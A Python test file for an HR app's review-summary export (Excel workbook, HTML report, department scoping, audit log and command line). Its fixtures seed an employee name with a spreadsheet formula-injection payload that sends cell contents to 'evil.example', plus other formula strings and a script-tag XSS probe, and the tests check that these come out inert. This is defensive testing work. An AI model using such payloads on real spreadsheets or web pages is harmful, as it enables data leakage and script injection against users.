"""The review-summary export of a closed cycle: workbook, report, scope, formula injection, the command line.

A small organisation reviewed in July 2026 (the mid-year cycle, closed on 31 July), made through the reviews
module's public functions; a year-end cycle is open but not closed. The hand calculations are in the comments.

  Sales: S1 Sam One (plan: 1 of 1 item due by 1 July done), S2 named "=HYPERLINK(…)" (plan: 0 of 1)
  R&D:   R1 Ray One (no plan), promoted into management on 2026-09-01
  Ops/East [B]: O1 Olga (not assessed) — a department name a worksheet cannot be called
"""
from __future__ import annotations

import shutil

import re
import zipfile
from datetime import date, datetime
from io import BytesIO
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import fastexcel
import polars as pl
import pytest

from services import auth, nominations, plans, reviews, workspace
from services import export
from services.cli import main
from pipelines.ingest import ingest
from tests.conftest import TODAY, copy_app_files, small_org, use_app_files

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Sue")'
FILES = {
    "employees.csv": f"""employee_id,name,department,position,job_level,manager_id,hire_date,birth_date,gender,location,status,exit_date,exit_reason
HS,Head Sales,Sales,Head of Sales,9,,2010-01-01,1975-01-01,female,Hangzhou,active,,
HR1,Head RD,R&D,Head of R&D,9,,2010-01-01,1975-01-01,male,Hangzhou,active,,
S1,Sam One,Sales,Account Manager,5,HS,2018-01-01,1990-01-01,female,Hangzhou,active,,
S2,"{EVIL_NAME.replace('"', '""')}",Sales,Account Manager,5,HS,2018-01-01,1990-01-01,female,Hangzhou,active,,
R1,Ray One,R&D,R&D Manager,7,HR1,2018-01-01,1990-01-01,male,Hangzhou,active,,
O1,Olga Ops,Ops/East [B],Planner,4,,2018-01-01,1990-01-01,female,Hangzhou,active,,
""",
    "performance_ratings.csv": "employee_id,period,rating,score\nS1,2025,B,75\nS1,2026-H1,B+,84\nS2,2025,A,93\nR1,2025,B,76\nR1,2026-H1,A,95\n",
    "promotions.csv": "employee_id,effective_date,from_level,to_level,to_position,into_management\nR1,2026-09-01,5,7,R&D Manager,true\n",
}
HR = auth.User("hr", "hr", "hr_admin", ())
LEAD = auth.User("lead", "lead", "hr_leadership", ())
HEAD_SALES = auth.User("head.sales", "head.sales", "department_head", ("Sales",))
HEAD_RD = auth.User("head.rd", "head.rd", "department_head", ("R&D",))
MID = "2026-mid_year"


def at(day: str) -> datetime:
    return datetime.fromisoformat(day + "T10:00:00")


@pytest.fixture(scope="module")
def _reviewed_template(tmp_path_factory) -> Path:
    # Built once per module (a real import and a real review year); each test works on its own copy.
    folder = tmp_path_factory.mktemp("reviewed")
    with pytest.MonkeyPatch.context() as monkeypatch:
        _build_reviewed(folder, monkeypatch)
    return folder


@pytest.fixture
def reviewed(_reviewed_template: Path, tmp_path: Path, monkeypatch) -> Path:
    copy_app_files(_reviewed_template, tmp_path)
    return use_app_files(tmp_path, monkeypatch)


@pytest.fixture(scope="module")
def company(_reviewed_template: Path) -> export.Export:
    """The whole company's export of the closed mid-year cycle, made once: build_export only reads."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.setenv("TALENT_DB", str(_reviewed_template / "talent.duckdb"))
        monkeypatch.setenv("TALENT_WORKSPACE", str(_reviewed_template / "workspace.duckdb"))
        return export.build_export(_reviewed_template / "talent.duckdb", MID)


def _build_reviewed(tmp_path: Path, monkeypatch) -> Path:
    db = small_org(tmp_path, monkeypatch, FILES, (HEAD_SALES, HEAD_RD))
    for employee_id, department in (("S1", "Sales"), ("S2", "Sales"), ("R1", "R&D"), ("O1", "Ops/East [B]")):
        nominations.record(HR, employee_id, department, "nominate", "meets the rules", "ready_1_2_years")
    plans.add_template_item(HEAD_SALES, "Sales", "course", "Negotiation Skills", 3)  # due 2026-04-15 for a plan from 2026-01-15
    for employee_id in ("S1", "S2"):
        plans.create_plan(HEAD_SALES, employee_id, "Sales", date(2026, 1, 15), at=at("2026-01-15"))
    item = plans.items(None, ["S1"])["item_id"][0]
    plans.change_item(HEAD_SALES, item, "done", status="done", completed_on=date(2026, 4, 1), at=at("2026-04-01"))

    cur = duckdb.connect(str(db), read_only=True)
    mid = reviews.open_cycle(HR, cur, 2026, "mid_year", opened_on=date(2026, 7, 1))
    # S1 (Sales 70/30): quantitative 0.5*75 + 0.25*80 + 0.25*100 = 82.5, qualitative 0.5*85 + 0.25*60 + 0.25*90 = 80
    #   -> 0.7*82.5 + 0.3*80 = 81.75 -> 81.8; all six indicators entered.
    reviews.record_assessment(HEAD_SALES, mid, "S1", {"team_results_growth": 10, "project_on_time_rate": 80, "subordinate_rating_change": 1,
                                                      "leadership_360": 85, "adopted_proposals": 3, "collaboration_satisfaction": 90},
                              "accelerate", strengths="+results above target", gaps="-strategy", comment="@SUM(A1:A9)", at=at("2026-07-10"))
    # S2: 360 70 only -> composite 70 (1 of 6 indicators); plan 0 % -> adjust the plan (recorded on the plan)
    reviews.record_assessment(HEAD_SALES, mid, "S2", {"leadership_360": 70}, "adjust_plan", comment="=1+2",
                              plan_adjustment="Negotiation Skills switched to the online course", at=at("2026-07-11"))
    # R1 (R&D 60/40, strategic thinking 50 %): quantitative (100*0.5 + 90*0.25) / 0.75 = 96.67; qualitative
    #   0.3*80 + 0.5*100 + 0.2*70 = 88 -> 0.6*96.67 + 0.4*88 = 93.2; 5 of 6 indicators entered.
    reviews.record_assessment(HEAD_RD, mid, "R1", {"team_results_growth": 20, "project_on_time_rate": 90, "leadership_360": 80,
                                                   "adopted_proposals": 5, "collaboration_satisfaction": 70},
                              "on_track", rationale="first year leading a team", comment="<script>alert('x')</script>", at=at("2026-07-12"))
    reviews.close_cycle(HR, cur, mid, closed_on=date(2026, 7, 31))
    dispute = reviews.raise_dispute(HEAD_SALES, mid, "S2", "The plan was never explained", at=at("2026-08-02"))
    assert dispute
    reviews.open_cycle(HR, cur, 2026, "year_end", opened_on=date(2026, 11, 20))  # open: not exportable yet
    cur.close()
    return db


def sheets(content: bytes) -> dict[str, pl.DataFrame]:
    reader = fastexcel.read_excel(content)
    return {name: pl.read_excel(BytesIO(content), sheet_name=name) for name in reader.sheet_names}


def sheet_xml(content: bytes) -> dict[str, str]:
    """Worksheet name -> its XML."""
    with zipfile.ZipFile(BytesIO(content)) as z:
        book = ElementTree.fromstring(z.read("xl/workbook.xml"))
        ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
              "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships"}
        rels = ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target") for r in rels}
        return {s.get("name"): z.read("xl/" + targets[s.get(f"{{{ns['r']}}}id")]).decode("utf-8")
                for s in book.find("m:sheets", ns)}


def table_xml(content: bytes) -> dict[str, str]:
    """Worksheet name -> the XML of the one Excel table on it (sheets are numbered in workbook order)."""
    with zipfile.ZipFile(BytesIO(content)) as z:
        out = {}
        for index, (name, xml) in enumerate(sheet_xml(content).items(), start=1):
            rel = re.search(r'<tablePart r:id="(rId\d+)"/>', xml).group(1)
            rels = ElementTree.fromstring(z.read(f"xl/worksheets/_rels/sheet{index}.xml.rels"))
            target = {r.get("Id"): r.get("Target") for r in rels}[rel]
            out[name] = z.read("xl/" + target.removeprefix("../")).decode("utf-8")
        return out


def cell_formats(content: bytes, sheet: str) -> dict[str, str]:
    """Cell reference -> its number format code, for one worksheet."""
    with zipfile.ZipFile(BytesIO(content)) as z:
        styles = ElementTree.fromstring(z.read("xl/styles.xml"))
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    custom = {f.get("numFmtId"): f.get("formatCode") for f in styles.iterfind("m:numFmts/m:numFmt", ns)}
    builtin = {"0": "General", "9": "0%", "10": "0.00%", "3": "#,##0"}
    xfs = [x.get("numFmtId", "0") for x in styles.find("m:cellXfs", ns)]
    root = ElementTree.fromstring(sheet_xml(content)[sheet])
    return {c.get("r"): custom.get(xfs[int(c.get("s", "0"))], builtin.get(xfs[int(c.get("s", "0"))]))
            for c in root.iterfind(".//m:sheetData/m:row/m:c", ns)}


def all_text(content: bytes) -> str:
    """Every text the workbook holds (cell strings, sheet names, properties), not its cell references."""
    with zipfile.ZipFile(BytesIO(content)) as z:
        return " ".join(z.read(n).decode("utf-8") for n in ("xl/sharedStrings.xml", "xl/workbook.xml", "docProps/core.xml", "docProps/app.xml"))


def chart_data(report: str) -> str:
    """The data and layout passed to plotly in the report (not the inlined plotly.js)."""
    return "".join(re.findall(r"Plotly\.newPlot\((.*?)\)\s*};?", report, flags=re.S))


SUMMARY_HEADERS = ["Department", "Members", "Assessed", "Confirmed by HR", "Outcome: On track", "Outcome: Adjust the plan", "Outcome: Accelerate",
                   "Quantified share", "Plan adjustment rate", "Promoted", "Promotion rate", "Disputes open", "Disputes answered",
                   "Average plan completion", "Average composite score", "Previous cycle: Members", "Previous cycle: Promotion rate",
                   "Previous cycle: Plan adjustment rate", "Previous cycle: Quantified share", "Previous cycle: Average plan completion",
                   "Previous cycle: Average composite score"]
PEOPLE_HEADERS = ["Employee ID", "Name", "Reviewer", "Plan completion", "Plan items done", "Plan items due", "Plan items in all", "Rating before",
                  "Rating after", "Rating change (grades)", "360° change", "Quantitative score", "Qualitative score", "Composite score",
                  "Reviewer's outcome / recommendation", "Suggested by the rules", "HR decision", "Final outcome", "Rationale", "Strengths",
                  "Gaps", "Comment", "Dispute"]


def test_workbook_has_the_summary_and_one_sheet_per_department(company: export.Export) -> None:
    result = company
    book = sheets(result.xlsx)
    # "Ops/East [B]" cannot name a worksheet ([]:*?/\ are not allowed): its characters become "_".
    assert list(book) == ["Summary", "Engagement", "Ops_East _B_", "R&D", "Sales", "About"]
    summary = book["Summary"]
    assert summary.columns == SUMMARY_HEADERS
    # Hand-worked: quantified share = mean share of the 6 indicators entered (S1 6/6, S2 1/6, R1 5/6);
    # plan adjustment: S2 only; promoted within 12 months of 1 July: R1 (1 Sep); plan completion S1 1/1, S2 0/1;
    # composite S1 81.8, S2 70, R1 93.2. No earlier mid-year cycle: the previous-cycle columns are empty.
    expected = [
        ("Ops/East [B]", 1, 0, 0, 0, 0, 0, None, None, 0, 0.0, 0, 0, None, None),
        ("R&D", 1, 1, 0, 1, 0, 0, pytest.approx(5 / 6), 0.0, 1, 1.0, 0, 0, None, pytest.approx(93.2)),
        ("Sales", 2, 2, 0, 0, 1, 1, pytest.approx(7 / 12), 0.5, 0, 0.0, 1, 0, 0.5, pytest.approx(75.9)),
        ("All departments", 4, 3, 0, 1, 1, 1, pytest.approx(2 / 3), pytest.approx(1 / 3), 1, 0.25, 1, 0, 0.5, pytest.approx(245 / 3)),
    ]
    assert [row[:15] for row in summary.rows()] == expected
    assert all(v is None for row in summary.rows() for v in row[15:])

    sales = book["Sales"]
    assert sales.columns == PEOPLE_HEADERS
    assert sales.rows() == [
        ("S1", "Sam One", "head.sales", 1, 1, 1, 1, "B", "B+", 1, None, 82.5, 80, 81.8, "Accelerate", "Accelerate", None, "Accelerate",
         None, "'+results above target", "'-strategy", "'@SUM(A1:A9)", "None"),
        ("S2", "'" + EVIL_NAME, "head.sales", 0, 0, 1, 1, "A", None, None, None, None, 70, 70, "Adjust the plan", "Adjust the plan", None,
         "Adjust the plan", None, None, None, "'=1+2", "Open"),
    ]
    assert book["R&D"].select("Employee ID", "Composite score", "Final outcome", "Rationale").rows() == [
        ("R1", 93.2, "On track", "first year leading a team")]
    assert book["Ops_East _B_"].select("Employee ID", "Name", "Final outcome").rows() == [("O1", "Olga Ops", None)]
    about = dict(book["About"].rows())
    assert (about["Review cycle"], about["Kind"], about["Opened"], about["Closed"], about["Departments"]) == (
        MID, "Mid-year review", "2026-07-01", "2026-07-31", "All departments")


def test_workbook_is_formatted_as_hr_expects(company: export.Export) -> None:
    content = company.xlsx
    xml, tables = sheet_xml(content), table_xml(content)
    for name, last in (("Summary", "U5"), ("Sales", "W3"), ("R&D", "W2"), ("About", "B14")):
        assert '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>' in xml[name], name  # frozen header
        assert f'<autoFilter ref="A1:{last}"/>' in tables[name], name  # an Excel table with filters on every column
        widths = [float(w) for w in re.findall(r'<col [^>]*width="([0-9.]+)"', xml[name])]
        assert widths and all(8 <= w <= 61 for w in widths), name  # sensible widths, no default 8.43 everywhere
    summary, sales = cell_formats(content, "Summary"), cell_formats(content, "Sales")
    assert [summary[f"{col}3"] for col in "BHIKNO"] == ["#,##0", "0%", "0%", "0%", "0%", "0.0"]  # members, shares as %, composite
    assert (sales["D2"], sales["N2"], sales["J2"]) == ("0%", "0.0", "+0;-0;0")  # plan completion as %, score, rating change
    comment_width = float(re.search(r'<col min="22" max="22" width="([0-9.]+)"', xml["Sales"]).group(1))
    assert comment_width > float(re.search(r'<col min="1" max="1" width="([0-9.]+)"', xml["Sales"]).group(1))


def test_formula_injection_comes_out_inert(company: export.Export) -> None:
    content = company.xlsx
    # No cell is a formula: every worksheet has text cells only where text was written.
    assert all("<f>" not in x and "<f " not in x for x in sheet_xml(content).values())
    sales = sheets(content)["Sales"]
    # Read back, the values start with an apostrophe: a spreadsheet (or a CSV saved from it) shows text, runs nothing.
    assert sales.filter(pl.col("Employee ID") == "S2").select("Name", "Comment").row(0) == ("'" + EVIL_NAME, "'=1+2")
    assert sales.filter(pl.col("Employee ID") == "S1").select("Strengths", "Gaps", "Comment").row(0) == (
        "'+results above target", "'-strategy", "'@SUM(A1:A9)")
    # The report escapes user text instead: no markup or script from a comment or a name reaches the page.
    report = company.html
    assert "<script>alert(" not in report
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in report
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Sue&quot;)" in report


def test_department_scoped_export_holds_no_other_department(reviewed: Path, company: export.Export) -> None:
    others = ("R1", "Ray One", "R&amp;D", "head.rd", "O1", "Olga", "Ops/East", "Ops_East")
    for result in (export.build_export(reviewed, MID, department="Sales"), export.build_export(reviewed, MID, scope=("Sales",))):
        book = sheets(result.xlsx)
        assert list(book) == ["Summary", "Engagement", "Sales", "About"]
        assert [r[:3] for r in book["Summary"].rows()] == [("Sales", 2, 2), ("All departments", 2, 2)]
        text = all_text(result.xlsx)
        assert not [o for o in others if o in text]
        page = re.sub(r"<script.*?</script>", "", result.html, flags=re.S)  # the text of the report ...
        assert "Sam One" in page and not [o for o in others if o in page]
        assert "Sales" in chart_data(result.html) and not [o for o in ("R&amp;D", "Ops") if o in chart_data(result.html)]  # ... and its charts
        assert result.names == {"xlsx": "review-summary-2026-mid_year-Sales.xlsx", "html": "review-summary-2026-mid_year-Sales.html"}
    assert "R&amp;D" in chart_data(company.html)  # (where the whole company's export has them)
    # A head cannot widen their scope with --department.
    with pytest.raises(export.ExportError, match="department 'R&D' is outside what you may see"):
        export.build_export(reviewed, MID, scope=("Sales",), department="R&D")


def test_the_apps_download_is_the_users_scope_and_is_logged(reviewed: Path) -> None:
    content = export.app_export(HEAD_SALES, MID, "xlsx")
    assert list(sheets(content)) == ["Summary", "Engagement", "Sales", "About"]
    report = export.app_export(LEAD, MID, "html").decode("utf-8")
    assert "Ray One" in report and "Olga Ops" in report  # HR leadership sees the whole company
    with pytest.raises(export.ExportError, match="may not export"):
        export.app_export(auth.User("v", "v", "viewer", ()), MID, "xlsx")
    with workspace.connect() as con:
        logged = con.sql("SELECT username, target, detail FROM audit_log WHERE action = 'review_export' ORDER BY audit_id").fetchall()
    assert logged == [
        ("head.sales", MID, f"cycle={MID}; departments=Sales; review-summary-2026-mid_year-Sales.xlsx sha256={export.sha256(content)}"),
        ("lead", MID, f"cycle={MID}; departments=all; review-summary-2026-mid_year.html sha256={export.sha256(report.encode())}"),
    ]


def test_trends_page_offers_the_closed_cycles_for_download_and_audits_each_download(reviewed: Path, monkeypatch, download_clicks) -> None:
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("TALENT_ADMIN_PASSWORD", "first-admin-password")
    monkeypatch.chdir(Path(__file__).resolve().parents[1])
    st.cache_data.clear()
    st.cache_resource.clear()
    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "app.py"), default_timeout=60).run()
    at.text_input[0].input("head.sales")
    at.text_input[1].input("a-long-password")
    at.button[0].click().run()
    at.switch_page("pages/trends.py").run()
    at.segmented_control(key="trends_section").set_value("download").run()  # the trends page draws one section at a time
    assert not at.exception, [e.message for e in at.exception]
    assert at.selectbox(key="export_cycle").options == ["2026-mid_year (closed 2026-07-31)"]  # the open year-end is not offered
    assert "Limited to Sales." in [c.value for c in at.caption]

    def audit_rows() -> list[tuple]:
        with workspace.connect() as con:
            return con.sql("SELECT username, action, target, detail FROM audit_log WHERE action IN ('review_export', 'export') "
                           "ORDER BY audit_id").fetchall()

    # Nothing is made (or logged) until a button is clicked; each click logs exactly what it handed over.
    assert audit_rows() == []
    workbook = download_clicks(at, "Download the workbook (XLSX)")
    assert list(sheets(workbook)) == ["Summary", "Engagement", "Sales", "About"]
    assert audit_rows() == [("head.sales", "review_export", MID,
                             f"cycle={MID}; departments=Sales; review-summary-2026-mid_year-Sales.xlsx sha256={export.sha256(workbook)}")]
    report = download_clicks(at, "Download the report (HTML, printable)")
    assert audit_rows()[-1] == ("head.sales", "review_export", MID,
                                f"cycle={MID}; departments=Sales; review-summary-2026-mid_year-Sales.html sha256={export.sha256(report)}")
    at.segmented_control(key="trends_section").set_value("succession").run()
    coverage = download_clicks(at, "Download this chart's data (CSV)", key="download_coverage").decode("utf-8-sig")
    assert audit_rows()[-1] == ("head.sales", "export", "trends/coverage.csv", f"{len(coverage.splitlines()) - 1} rows")
    assert len(audit_rows()) == 3
    st.cache_data.clear()
    st.cache_resource.clear()


def test_report_is_self_contained_and_printable(company: export.Export) -> None:
    report = company.html
    assert report.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in report
    assert "<script src" not in report and "<link" not in report  # nothing to fetch: works offline
    assert len(re.findall(r"plotly\.js v\d", report)) == 1  # plotly.js inlined once
    assert report.count("Plotly.newPlot(") == 3  # outcomes, composite scores, plan completion
    assert "@media print" in report and "thead { display: table-header-group; }" in report and "break-before: page" in report
    assert [h for h in re.findall(r"<h2>(.*?)</h2>", report)] == [
        "Summary", "Candidate engagement", "Outcomes per department", "Composite scores per department", "Plan completion per department",
        "Ops/East [B]", "R&amp;D", "Sales"]


def test_export_in_chinese(reviewed: Path) -> None:
    result = export.build_export(reviewed, MID, department="Sales", lang="zh-CN")
    book = sheets(result.xlsx)
    assert list(book) == ["汇总", "参与度", "Sales", "说明"]
    assert book["汇总"].columns[:3] == ["部门", "成员", "已评估"]
    assert book["Sales"].select("员工编号", "最终结论").rows() == [("S1", "加速培养"), ("S2", "调整计划")]
    assert '<html lang="zh-CN">' in result.html and "评估汇总 2026-mid_year" in result.html


def test_sheet_names_are_valid_and_unique() -> None:
    taken: set[str] = set()
    long = "Research and Development: Shanghai [East]"
    first = export.sheet_name(long, taken)
    second = export.sheet_name(long, taken)
    assert first == "Research and Development_ Shang" and len(first) == 31
    assert second == "Research and Development_ S (2)" and len(second) == 31
    assert export.sheet_name("'Quoted'", taken) == "Quoted"
    assert export.sheet_name("History", taken) == "History_"  # a name Excel reserves
    assert export.sheet_name("quoted", taken) == "quoted (2)"  # unique regardless of case


def run_cli(capsys, *args: str) -> tuple[int, str, str]:
    code = main(["export", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_cli_exports_the_latest_closed_cycle_and_logs_it(reviewed: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "exports"
    code, stdout, stderr = run_cli(capsys, "--cycle", "latest", "--out", str(out), "--db", str(reviewed))
    assert (code, stderr) == (0, "")
    xlsx, report = out / "review-summary-2026-mid_year.xlsx", out / "review-summary-2026-mid_year.html"
    assert sorted(p.name for p in out.iterdir()) == [report.name, xlsx.name]
    hashes = {p.name: export.sha256(p.read_bytes()) for p in (xlsx, report)}
    assert stdout.splitlines() == [
        f"wrote {xlsx} ({xlsx.stat().st_size:,} bytes, sha256 {hashes[xlsx.name]})",
        f"wrote {report} ({report.stat().st_size:,} bytes, sha256 {hashes[report.name]})",
        "review cycle 2026-mid_year: 4 members in 3 department(s)",
    ]
    with workspace.connect() as con:
        who, target, detail = con.sql("SELECT username, target, detail FROM audit_log WHERE action = 'review_export'").fetchall()[0]
    assert who.startswith("cli") and target == MID
    assert detail == f"cycle={MID}; departments=all; {xlsx.name} sha256={hashes[xlsx.name]}; {report.name} sha256={hashes[report.name]}"

    code, stdout, _ = run_cli(capsys, "--cycle", MID, "--department", "Sales", "--out", str(out), "--db", str(reviewed))
    assert code == 0 and (out / "review-summary-2026-mid_year-Sales.xlsx").exists()
    assert list(sheets((out / "review-summary-2026-mid_year-Sales.xlsx").read_bytes())) == ["Summary", "Engagement", "Sales", "About"]


def test_cli_lists_the_cycles(reviewed: Path, capsys) -> None:
    code, stdout, _ = run_cli(capsys, "--list-cycles", "--db", str(reviewed))
    assert code == 0
    assert stdout.splitlines() == [
        "2026-year_end      open    opened 2026-11-20  open                   4 members",
        "2026-mid_year      closed  opened 2026-07-01  closed 2026-07-31      4 members",
    ]


@pytest.mark.parametrize(("args", "message"), [
    (("--cycle", "2025-year_end"), "error: unknown review cycle '2025-year_end' (cycles: 2026-year_end, 2026-mid_year)"),
    (("--cycle", "2026-year_end"), "error: review cycle '2026-year_end' is still open; export it when HR has closed it (closed: 2026-mid_year)"),
    (("--cycle", MID, "--department", "Marketing"),
     "error: department 'Marketing' has no members in review cycle 2026-mid_year (departments: Ops/East [B], R&D, Sales)"),
    ((), "error: say which cycle: --cycle CYCLE or --cycle latest (--list-cycles lists them)"),
])
def test_cli_refuses_with_one_line_and_exit_code_2(reviewed: Path, tmp_path: Path, capsys, args, message) -> None:
    code, stdout, stderr = run_cli(capsys, *args, "--out", str(tmp_path / "exports"), "--db", str(reviewed))
    assert (code, stdout, stderr) == (2, "", message + "\n")
    assert not (tmp_path / "exports").exists()


def test_cli_without_a_database_or_a_closed_cycle(tmp_path: Path, capsys, monkeypatch) -> None:
    monkeypatch.delenv("TALENT_WORKSPACE", raising=False)
    code, _, stderr = run_cli(capsys, "--cycle", "latest", "--db", str(tmp_path / "missing.duckdb"))
    assert (code, stderr) == (2, f"error: no database at {tmp_path / 'missing.duckdb'}\n")
    files = tmp_path / "files"
    files.mkdir()
    (files / "employees.csv").write_text(FILES["employees.csv"], encoding="utf-8")
    db = tmp_path / "talent.duckdb"
    ingest([files], db, today=TODAY)
    code, _, stderr = run_cli(capsys, "--cycle", "latest", "--db", str(db))
    assert (code, stderr) == (2, f"error: no workspace at {tmp_path / 'workspace.duckdb'}: no review cycle has been run yet\n")
    with workspace.connect(tmp_path / "workspace.duckdb"):
        pass
    code, _, stderr = run_cli(capsys, "--cycle", "latest", "--db", str(db))
    assert (code, stderr) == (2, "error: no closed review cycle to export yet\n")
